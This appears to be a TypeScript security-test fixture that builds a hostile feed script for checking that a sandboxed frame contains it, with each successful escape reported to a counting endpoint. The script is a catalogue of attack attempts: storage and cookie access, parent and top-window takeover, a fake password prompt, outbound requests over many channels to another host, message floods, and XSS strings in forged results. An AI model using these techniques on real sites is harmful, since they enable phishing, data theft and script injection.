/**
 * A feed that an attacker took over. The script reads what it can of the visitor and the page, tries to leave its
 * frame and to reach other hosts, posts messages that look like answers, and ends with believable matches, so that
 * nothing seems wrong.
 *
 * It reports each success to `/feed/Escaped?what=…`, over every available channel. The faults endpoint counts the
 * reports as `feed.Escaped`: on a safe page the count stays at zero. A policy that allows the feed cannot stop a
 * report by script to the feed's own host, so that report is sent only after an attempt has succeeded.
 */
export function escapeScript(callback: string): string {
  return String.raw`(function () {
  'use strict';
  var source = new URL(document.currentScript.src);
  var home = source.origin + '/feed/Escaped?what=';
  var abroad = home.replace('//localhost', '//127.0.0.1');
  if (abroad === home) abroad = home.replace('//127.0.0.1', '//localhost');
  var forged = [
    { Date: '/Date(' + (Date.now() + 86400000) + ')/', HomeTeamName: 'Forged Athletic', AwayTeamName: '<img src=x onerror=alert(1)>', HomeFullTimeScore: 99, AwayFullTimeScore: 0, Type: 'RESULT' },
    { Date: '/Date(' + (Date.now() + 172800000) + ')/', HomeTeamName: 'javascript:alert(1)', AwayTeamName: '\u202eForged\u0000 Wanderers', HomeFullTimeScore: 1, AwayFullTimeScore: 2, Type: 'RESULT' }
  ];

  function script(address) {
    var element = document.createElement('script');
    element.src = address;
    document.head.appendChild(element);
  }
  function got(what) { script(home + encodeURIComponent(what)); }
  function attempt(what, deed) {
    try {
      Promise.resolve(deed()).then(function (loot) { if (loot) got(what); }, function () {});
    } catch (refused) { /* As it should be. */ }
  }

  attempt('localStorage', function () { localStorage.setItem('escaped', '1'); return true; });
  attempt('sessionStorage', function () { sessionStorage.setItem('escaped', '1'); return true; });
  attempt('cookies', function () { document.cookie = 'escaped=1; path=/'; return document.cookie; });
  attempt('databases', function () {
    return new Promise(function (resolve, reject) {
      var opening = indexedDB.open('escaped');
      opening.onsuccess = function () { resolve(true); };
      opening.onerror = reject;
    });
  });
  attempt('caches', function () { return caches.keys().then(function () { return true; }); });
  attempt('workers', function () {
    return navigator.serviceWorker.getRegistrations().then(function () { return true; });
  });
  attempt('parent-document', function () {
    if (parent === window) return true;
    parent.document.body.dataset.escaped = '1';
    return true;
  });
  attempt('parent-address', function () { return parent !== window && parent.location.href; });
  attempt('parent-names', function () { parent.escaped = 1; return parent.escaped; });
  attempt('frame-element', function () { return window.frameElement; });
  attempt('window', function () { return window.open(home + 'window', '_blank'); });
  attempt('top', function () { top.location.href = home + 'top'; });
  attempt('top-replace', function () { top.location.replace(home + 'top-replace'); });
  attempt('top-form', function () {
    var form = document.createElement('form');
    form.action = home + 'form';
    form.target = '_top';
    document.documentElement.appendChild(form);
    form.submit();
  });
  attempt('dialog', function () { return window.prompt('Your password, please'); });
  attempt('worker', function () {
    new Worker(URL.createObjectURL(new Blob(['fetch("' + home + 'worker")'])));
  });

  [home, abroad].forEach(function (host) {
    attempt('fetch', function () { return fetch(host + 'fetch', { mode: 'no-cors' }).then(function () {}); });
    attempt('xhr', function () {
      var request = new XMLHttpRequest();
      request.open('GET', host + 'xhr');
      request.send();
    });
    attempt('beacon', function () { navigator.sendBeacon(host + 'beacon', 'x'); });
    attempt('image', function () { new Image().src = host + 'image'; });
    attempt('events', function () { new EventSource(host + 'events'); });
    attempt('frame', function () {
      var frame = document.createElement('iframe');
      frame.src = host + 'frame';
      document.documentElement.appendChild(frame);
    });
    attempt('style', function () {
      var link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = host + 'style';
      document.head.appendChild(link);
    });
  });
  attempt('script-abroad', function () { script(abroad + 'script-abroad'); });
  attempt('page-of-the-site', function () { return fetch('/config.json').then(function () { return true; }); });

  var nonce = new URLSearchParams(location.hash.slice(1)).get('nonce') || '';
  var messages = [
    null, undefined, 0, true, '', 'null', [], {}, forged, JSON.stringify(forged),
    { type: 'feed', items: forged }, { nonce: nonce, items: forged }, { data: { nonce: nonce } },
    nonce, nonce + '=', nonce + '={', nonce + '={"items":[]}', nonce + '=null', '!' + nonce,
    nonce + '=' + '['.repeat(100000), nonce + '=' + ' '.repeat(2000000)
  ];
  messages.forEach(function (message) {
    attempt('message', function () { parent.postMessage(message, '*'); });
    attempt('message-top', function () { top.postMessage(message, '*'); });
  });

  window['${callback}'](forged);
})();
`;
}
